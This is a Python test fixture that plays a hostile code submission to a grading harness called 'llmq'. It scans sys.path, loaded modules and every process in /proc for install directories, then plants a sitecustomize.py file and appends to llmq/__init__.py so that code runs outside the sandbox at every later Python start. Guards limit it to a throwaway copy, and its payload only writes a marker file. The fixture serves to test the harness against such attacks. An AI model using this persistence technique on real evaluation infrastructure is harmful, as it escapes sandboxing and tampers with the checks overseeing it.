"""Hostile submission: plant code in llmq's installation, to run outside any sandbox next time.

Find the directories Python imports llmq from (sys.path, PYTHONPATH, the files of loaded modules,
the cwd, command line and environment of every process in /proc), then write a sitecustomize.py
into each (Python imports it at every start) and append to llmq/__init__.py. The planted code
creates the file RAN. WRITABLE_UNDER is a guard: it writes only into the throwaway copy of llmq
the test installed (a real attacker would write into every installation it finds), and the
planted code runs only in processes of the test that runs it.
"""

import contextlib
import gc
import os
import sys
import types
from pathlib import Path

WRITABLE_UNDER = "__BANK_ROOT__"
MARKER = "__MARKER__"
RAN = "__RAN__"

CODE = f"""
import os as _os
if _os.environ.get("LLMQ_ATTACK_TAG") == {MARKER!r}:
    open({RAN!r}, "w").write("code planted by a submission ran")
"""


def _candidate_dirs() -> list[Path]:
    dirs: list[str] = list(sys.path) + os.environ.get("PYTHONPATH", "").split(os.pathsep)
    for obj in gc.get_objects():
        if isinstance(obj, types.ModuleType) and getattr(obj, "__file__", None):
            dirs.append(os.path.dirname(str(obj.__file__)))
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        with contextlib.suppress(OSError):
            dirs.append(os.readlink(f"/proc/{pid}/cwd"))
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    for item in f.read().split(b"\0"):
                        text = item.decode(errors="ignore").split("=", 1)[-1]
                        dirs.extend(part for part in text.split(os.pathsep) if part.startswith("/"))
            except OSError:
                pass
    return [Path(d) for d in dict.fromkeys(dirs) if d]


def _plant() -> list[str]:
    done: list[str] = []
    for base in _candidate_dirs():
        for up in [base, *list(base.parents)[:2]]:
            try:
                root = up.resolve()
                if not str(root).startswith(WRITABLE_UNDER) or not (root / "llmq" / "__init__.py").is_file():
                    continue
                for target, mode in ((root / "sitecustomize.py", "w"), (root / "llmq" / "__init__.py", "a")):
                    if str(target) not in done:
                        with open(target, mode) as f:
                            f.write(CODE)
                        done.append(str(target))
            except OSError:
                pass
    return done


print(f"planted: {_plant()}")


def softmax(x, dim=-1):
    return x.clone()
